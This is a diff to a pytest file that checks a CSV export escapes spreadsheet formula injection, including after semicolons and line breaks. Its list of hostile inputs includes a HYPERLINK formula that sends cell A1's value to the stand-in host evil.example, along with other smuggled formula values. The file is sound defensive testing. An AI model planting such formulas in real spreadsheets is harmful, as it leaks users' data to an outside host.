@@ -18,9 +18,10 @@ from floqast.models import Service
 BOOKS = Profile(entities=(("North", "USD"), ("South", "EUR")), accounts=6, months=2, through=(2025, 3), seed=7,
                 people=("Ann", "Ben", "Cy"))
 KOLKATA = ZoneInfo("Asia/Kolkata")
-# Text a spreadsheet would run as a formula, and text that only looks like it might.
+# Text a spreadsheet would run as a formula, at its start or after a ; or a line break where a spreadsheet that
+# separates cells with ; starts a new one, and text that only looks like it might.
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-5", "@x", "\tx", "+1", "\r=1", "'=quoted",
-           "'", "plain", ""]
+           "'", "plain", "", "ok;=1+1", 'a;"=2', "line\n@x", "a\r@x", "a\r\n-1;b", "a;;'"]
 
 
 @pytest.fixture
@@ -63,5 +64,6 @@ def test_the_fast_csv_rows_are_the_plain_flattened_records(app, team, odd_books,
     cells = {value for row in as_text for value in row}
     assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'-5", "'@x", "'\tx", "''=quoted", "''",
             "'@North", ""} <= cells
-    assert ("-1234.50" in cells and "-0.05" in cells) if service is Service.RECONCILIATIONS else ("'@x;ok;@x" in cells)
+    assert {"ok;'=1+1", "a;'\"=2", "line\n'@x", "a\r'@x", "a\r\n'-1;b", "a;;''"} <= cells
+    assert ("-1234.50" in cells and "-0.05" in cells) if service is Service.RECONCILIATIONS else ("'@x;ok;'@x" in cells)
     assert {"2025-03-31T18:15:06Z", "2025-03-31T18:15:06.123456Z"} <= cells
